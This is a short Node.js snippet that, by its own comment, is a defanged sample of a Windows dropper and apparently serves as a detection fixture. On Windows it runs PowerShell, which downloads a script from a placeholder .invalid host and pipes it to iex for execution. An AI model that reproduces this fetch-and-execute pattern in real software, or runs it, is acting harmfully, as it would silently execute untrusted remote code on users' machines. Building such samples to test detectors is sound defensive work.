// Mimics in-code Windows droppers (catalog §3 row 2): PowerShell downloads a script and pipes it to iex. Defanged: .invalid host, never run.
const { exec } = require('child_process');
if (process.platform === 'win32') {
  exec('powershell -NoProfile -c "iwr https://stage.payload.invalid/s.ps1 -UseBasicParsing | iex"');
}
